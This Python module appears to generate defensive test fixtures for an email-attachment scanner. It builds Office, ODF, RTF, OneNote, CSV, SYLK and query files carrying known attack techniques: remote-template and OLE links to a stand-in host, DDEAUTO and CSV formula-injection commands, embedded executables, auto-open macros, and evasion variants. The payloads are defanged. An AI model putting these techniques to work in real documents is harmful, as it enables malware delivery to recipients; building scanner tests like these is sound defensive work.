"""Group D, all but macros: documents that start, load or hold something. ECMA-376, ODF 1.2, RTF 1.9.1, MS-ONESTORE."""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterator

from corpora.attachments import offices, ole2, pdfs
from corpora.attachments.hostile_macros import OPENS, project
from corpora.attachments.mime import HARMLESS, Case, case
from corpora.attachments.programs import BATCH, pe

D, S = "dangerous", "suspicious"
FAR = "https://files.sender.example/a"
Row = tuple[str, bytes, str, str, tuple[str, ...]]
OPAQUE = {"D-ooxml-encrypted", "D-doc-encrypted", "D-xls-encrypted", "D-odt-encrypted"}


def cases() -> Iterator[Case]:
    """Give them all."""
    for make in (packages, open_documents, encrypted, rich, flat, tables):
        for name, data, filename, verdict, findings in make():
            yield case(name, data, filename, verdict, *findings, opaque=name in OPAQUE)


def packages() -> Iterator[Row]:
    """Relationships that lead out, fields that start something, and objects. ECMA-376 parts 1 and 2."""
    template, ole, link = ("OFFICE_TEMPLATE 2",), ("OFFICE_EXTERNAL_OLE 2",), ("OFFICE_EXTERNAL_LINK 2",)
    settings = {
        "word/_rels/settings.xml.rels": offices.rels([("attachedTemplate", FAR + ".dotm", True)]),
        "word/settings.xml": b"<w:settings/>",
    }
    yield (
        "D-docx-template",
        offices.docx("Letter", [("settings", "settings.xml", False)], settings),
        "letter.docx",
        D,
        template,
    )
    share = {
        **settings,
        "word/_rels/settings.xml.rels": offices.rels(
            [("attachedTemplate", "file:///\\\\files.sender.example\\a.dotm", True)]
        ),
    }
    yield (
        "D-docx-template-share",
        offices.docx("Letter", [("settings", "settings.xml", False)], share),
        "letter.docx",
        D,
        template,
    )
    yield "D-docx-ole-link", offices.docx("Letter", [("oleObject", FAR + ".doc", True)]), "letter.docx", D, ole
    yield (
        "D-docx-ole-link-mhtml",
        offices.docx("Letter", [("oleObject", f"mhtml:{FAR}.html!x-usc:{FAR}.html", True)]),
        "letter.docx",
        D,
        ole,
    )
    yield "D-docx-ole-link-html", offices.docx("Letter", [("oleObject", FAR + ".html!", True)]), "letter.docx", D, ole
    yield "D-docx-frame", offices.docx("Letter", [("frame", FAR + ".html", True)]), "letter.docx", S, ()
    yield "D-docx-import", offices.docx("Letter", [("aFChunk", FAR + ".rtf", True)]), "letter.docx", S, ()
    yield "D-pptx-ole-link", offices.pptx("Deck", [("oleObject", FAR + ".doc", True)]), "deck.pptx", D, ole
    yield (
        "D-xlsx-external-book",
        offices.xlsx(
            [["a"]],
            [("externalLink", "externalLinks/externalLink1.xml", False)],
            {
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": offices.rels(
                    [("externalLinkPath", "file:///\\\\files.sender.example\\share\\a.xlsx", True)]
                ),
            },
        ),
        "figures.xlsx",
        S,
        link,
    )
    dde = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c rem MAILKIT"/></externalLink>'
    yield (
        "D-xlsx-dde",
        offices.xlsx(
            [["a"]],
            [("externalLink", "externalLinks/externalLink1.xml", False)],
            {"xl/externalLinks/externalLink1.xml": dde.encode()},
        ),
        "figures.xlsx",
        D,
        ("OFFICE_DDE 2",),
    )
    code = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c rem MAILKIT"'
    simple = f'<w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/>'
    yield "D-docx-dde", offices.docx("Letter", inside=simple), "letter.docx", D, ("OFFICE_DDE 2",)
    halves = "".join(
        f"<w:r><w:instrText>{half}</w:instrText></w:r>"
        for half in ("DD", "EAU", "TO ", "cmd &quot;/c rem MAILKIT&quot;")
    )
    split = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{halves}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    yield "D-docx-dde-split", offices.docx("Letter", inside=split), "letter.docx", D, ("OFFICE_DDE 2",)
    held = {
        "word/embeddings/oleObject1.bin": ole2.compound(
            {"\x01Ole10Native": ole2.package("setup.exe", pe())}, ole2.PACKAGE
        )
    }
    inside: list[offices.Rel] = [("oleObject", "embeddings/oleObject1.bin", False)]
    yield "D-docx-holds-program", offices.docx("Letter", inside, held), "letter.docx", D, ("OFFICE_OLE_PACKAGE 2",)
    typed = {"/word/embeddings/oleObject1.bin": "application/vnd.ms-office.vbaProject"}
    yield (
        "D-docx-program-typed-as-macros",
        offices.docx("Letter", inside, held, types=typed),
        "letter.docx",
        D,
        ("OFFICE_OLE_PACKAGE 2",),
    )
    text = {
        "word/embeddings/oleObject1.bin": ole2.compound(
            {"\x01Ole10Native": ole2.package("notes.txt", HARMLESS)}, ole2.PACKAGE
        )
    }
    yield "D-docx-holds-text", offices.docx("Letter", inside, text), "letter.docx", S, ("OFFICE_OLE_PACKAGE 2",)
    old = {"ObjectPool/_1/\x01Ole10Native": ole2.package("start.bat", BATCH)}
    whole = ole2.compound({"WordDocument": ole2.fib(), "1Table": bytes(4096), **old}, ole2.WORD)
    yield "D-doc-holds-script", whole, "letter.doc", D, ("OFFICE_OLE_PACKAGE 2",)
    equation = {"word/embeddings/oleObject1.bin": ole2.compound({"Equation Native": bytes(60)}, ole2.EQUATION)}
    yield "D-docx-equation", offices.docx("Letter", inside, equation), "letter.docx", D, ("OFFICE_EQUATION 2",)
    control = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit"/>'
    yield (
        "D-docx-activex",
        offices.docx(
            "Letter", [("control", "activeX/activeX1.xml", False)], {"word/activeX/activeX1.xml": control.encode()}
        ),
        "letter.docx",
        S,
        ("OFFICE_ACTIVEX 2",),
    )


def open_documents() -> Iterator[Row]:
    """Give Basic, objects and links of OpenDocument. ODF 1.2 part 1, sections 3.12, 10.4.6 and 9.4.3."""
    basic = {
        "Basic/script-lc.xml": b'<library:libraries xmlns:library="http://openoffice.org/2000/library"/>',
        "Basic/Standard/Module1.xml": b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nEnd Sub\n</script:module>',
    }
    yield "D-odt-basic", offices.odf("text", "Letter", basic), "letter.odt", S, ("OFFICE_VBA 2",)
    listener = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
    )
    yield "D-odt-basic-on-load", offices.odf("text", "Letter", basic, scripts=listener), "letter.odt", S, ()
    python = {"Scripts/python/start.py": b"def start():\n    pass  # MAILKIT-BENIGN-LOOKALIKE-PAYLOAD\n"}
    yield "D-ods-python", offices.odf("spreadsheet", "A", python), "figures.ods", S, ()
    frame = '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'
    held = {"Object 1": ole2.compound({"\x01Ole10Native": ole2.package("setup.exe", pe())}, ole2.PACKAGE)}
    yield (
        "D-odt-holds-program",
        offices.odf("text", "Letter", held, inside=frame),
        "letter.odt",
        D,
        ("OFFICE_OLE_PACKAGE 2",),
    )
    dde = '<text:p><text:a xlink:href="#a">a</text:a></text:p><table:table table:name="A"><office:dde-source office:dde-application="cmd" office:dde-topic="/c rem MAILKIT" office:dde-item="a" office:automatic-update="true"/></table:table>'
    yield "D-odt-dde", offices.odf("text", "Letter", inside=dde), "letter.odt", D, ("OFFICE_DDE 2",)


def encrypted() -> Iterator[Row]:
    """Give what only a password opens. MS-OFFCRYPTO, MS-DOC 2.5.2, MS-XLS 2.4.117, ODF 1.2 part 3 section 3."""
    locked = ("OFFICE_ENCRYPTED 2",)
    info = (
        struct.pack("<HHI", 4, 4, 0x40) + b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    )
    noise = struct.pack("<Q", 4000) + bytes(index * 73 % 256 for index in range(4096))
    yield (
        "D-ooxml-encrypted",
        ole2.compound({"EncryptionInfo": info, "EncryptedPackage": noise}),
        "letter.docx",
        S,
        locked,
    )
    yield (
        "D-doc-encrypted",
        ole2.compound({"WordDocument": ole2.fib(encrypted=True), "1Table": noise}, ole2.WORD),
        "letter.doc",
        S,
        locked,
    )
    bof = ole2.record(0x809, struct.pack("<HHHHII", 0x0600, 5, 0x0DBB, 0x07CC, 0x41, 6))
    book = bof + ole2.record(0x2F, struct.pack("<HHH", 1, 1, 1) + bytes(48)) + ole2.record(0x0A)
    yield "D-xls-encrypted", ole2.compound({"Workbook": book.ljust(4096, b"\0")}, ole2.EXCEL), "figures.xls", S, locked


def rich() -> Iterator[Row]:
    """RTF and OneNote. RTF 1.9.1 section "Objects", MS-OLEDS section 2.2, MS-ONESTORE section 2.6.13."""

    def object_(kind: bytes, data: bytes) -> bytes:
        name = kind + b"\0"
        body = (
            struct.pack("<III", 0x501, 2, len(name))
            + name
            + bytes(8)
            + struct.pack("<I", len(data))
            + data
            + struct.pack("<III", 0x501, 0, 0)
        )
        return body.hex().encode()

    packed = object_(b"Package", ole2.package("setup.exe", pe())[4:])
    plain = b"{\\rtf1\\ansi Letter {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata %s}}}\r\n"
    held = ("RTF_OBJECT 2",)
    yield "D-rtf-package", plain % packed, "letter.rtf", D, held
    yield "D-rtf-package-as-doc", plain % packed, "letter.doc", D, held
    broken = b"\r\n".join(packed[at : at + 7] for at in range(0, len(packed), 7))
    yield "D-rtf-package-broken-lines", plain % broken, "letter.rtf", D, held
    noisy = packed[:40] + b"{\\*\\nothing 0}" + packed[40:]
    yield "D-rtf-package-group-inside", plain % noisy, "letter.rtf", S, held
    yield "D-rtf-short-head", b"{\\rt" + (plain % packed)[6:], "letter.rtf", S, held
    equation = object_(b"Equation.3", bytes(64))
    yield (
        "D-rtf-equation",
        b"{\\rtf1 {\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata %s}}}" % equation,
        "letter.rtf",
        D,
        ("OFFICE_EQUATION 2",),
    )
    yield (
        "D-rtf-link",
        b"{\\rtf1 {\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata %s}}}"
        % object_(b"OLE2Link", bytes(40)),
        "letter.rtf",
        S,
        held,
    )
    yield (
        "D-rtf-template",
        b"{\\rtf1{\\*\\template https://files.sender.example/a.dotm} Letter}\r\n",
        "letter.rtf",
        D,
        ("OFFICE_TEMPLATE 2",),
    )
    yield (
        "D-rtf-dde",
        b'{\\rtf1 {\\field{\\*\\fldinst {DDEAUTO cmd "/c rem MAILKIT"}}{\\fldrslt a}}}\r\n',
        "letter.rtf",
        D,
        ("OFFICE_DDE 2",),
    )
    store = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    footer = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")

    def note(data: bytes) -> bytes:
        held = guid + struct.pack("<QIQ", len(data), 0, 0) + data
        return store.ljust(1024, b"\0") + held + bytes(-len(held) % 8) + footer

    yield "D-one-holds-program", note(pe()), "notes.one", D, ("ONENOTE_EMBEDDED 2",)
    yield (
        "D-one-holds-script",
        note(b"@echo off\r\nrem MAILKIT-BENIGN-LOOKALIKE-PAYLOAD\r\n" * 4),
        "notes.one",
        S,
        ("ONENOTE_EMBEDDED 2",),
    )
    yield "D-one-as-pdf", note(pe()), "notes.pdf", D, ("ONENOTE_EMBEDDED 2", "MAGIC_MISMATCH 2")


def flat() -> Iterator[Row]:
    """Documents in one file of XML, and an installer that claims to be one."""
    packed = pdfs.zlib_stream(project(OPENS.format("AutoOpen")))
    start = b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0".ljust(30, b"\0") + b"\x04".ljust(20, b"\0")
    source = base64.b64encode(start + packed).decode()
    old = (
        '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
        f'w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">{source}</w:binData></w:docSuppData><w:body><w:p/></w:body></w:wordDocument>\n'
    )
    yield "D-word-2003-macros", old.encode(), "letter.xml", S, ("OFFICE_VBA_AUTO 2",)
    yield "D-word-2003-as-doc", old.encode(), "letter.doc", S, ("OFFICE_VBA_AUTO 2",)
    flag = old.replace(source, base64.b64encode(HARMLESS).decode())
    yield "D-word-2003-flag-alone", flag.encode(), "letter.xml", S, ("OFFICE_VBA 2",)
    data = base64.b64encode(project(OPENS.format("AutoOpen"))).decode()
    new = (
        '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        '<pkg:part pkg:name="/word/document.xml"><pkg:xmlData/></pkg:part>'
        f'<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>{data}</pkg:binaryData></pkg:part></pkg:package>\n'
    )
    yield "D-flat-opc-macros", new.encode(), "letter.xml", S, ("OFFICE_VBA_AUTO 2",)
    msi = ole2.compound({"SummaryInformation": HARMLESS}, ole2.INSTALLER)
    yield "D-msi-as-doc", msi, "letter.doc", D, ("MAGIC_INSTALLER 2",)
    yield "D-msi", msi, "setup.msi", D, ("EXT_INSTALLER 2", "MAGIC_INSTALLER 2")


def tables() -> Iterator[Row]:
    """Tables in text: a cell starts a program. CWE-1236; SYLK; the query files of Excel."""
    start = "=cmd|'/c rem MAILKIT'!A1"
    dde = ("CSV_DDE 2",)
    yield "D-csv-dde", f"name,value\r\na,{start}\r\n".encode(), "figures.csv", D, dde
    yield "D-csv-dde-plus", b"name,value\r\na,\"+cmd|'/c rem MAILKIT'!A1\"\r\n", "figures.csv", D, dde
    yield "D-csv-dde-at", b"name;value\r\na;@SUM(1+1)*cmd|'/c rem MAILKIT'!A1\r\n", "figures.csv", D, dde
    yield "D-csv-dde-utf16", b"\xff\xfe" + f"name\tvalue\r\na\t{start}\r\n".encode("utf-16-le"), "figures.csv", D, dde
    yield "D-tsv-dde", f"name\tvalue\r\na\t{start}\r\n".encode(), "figures.tsv", D, dde
    macro = b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;K0;EHALT()\r\nE\r\n"
    yield "D-slk-macro", macro, "figures.slk", D, ("SLK_MACRO 2",)
    yield "D-slk-as-csv", macro, "figures.csv", D, ("SLK_MACRO 2",)
    yield (
        "D-iqy",
        b"WEB\r\n1\r\nhttps://files.sender.example/a.dat\r\n\r\nSelection=EntirePage\r\n",
        "figures.iqy",
        D,
        ("QUERY_FILE 2",),
    )
    yield "D-iqy-as-txt", b"WEB\r\n1\r\nhttps://files.sender.example/a.dat\r\n", "figures.txt", D, ("QUERY_FILE 2",)
    yield (
        "D-oqy",
        b"QueryType=OLEDB\r\nVersion=1\r\nCommandText=a\r\nConnection=Provider=MSOLAP;Data Source=files.sender.example\r\n",
        "figures.oqy",
        D,
        (),
    )
